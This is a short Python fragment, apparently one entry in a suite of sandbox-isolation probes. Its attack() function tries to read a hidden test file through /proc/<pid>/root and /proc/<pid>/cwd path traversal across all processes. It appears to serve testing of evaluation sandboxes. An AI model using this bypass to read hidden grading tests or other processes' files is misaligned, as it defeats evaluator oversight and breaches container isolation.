"""010 files: reach a hidden test through the root or the working folder of another process.

Evidence: secret - its first line.
"""


def attack():
    def read(path):
        with open(path) as stream:
            return stream.read(300)

    pids = [*TARGETS["pids"], "self", "1", *[name for name in os.listdir("/proc") if name.isdigit()]]
    tries = [f"/proc/{pid}/root{TARGETS['hidden_test']}" for pid in pids]
    tries += [f"/proc/{pid}/cwd/../../../../../../../..{TARGETS['hidden_test']}" for pid in pids]
    return first(*[lambda path=path: read(path) for path in tries])
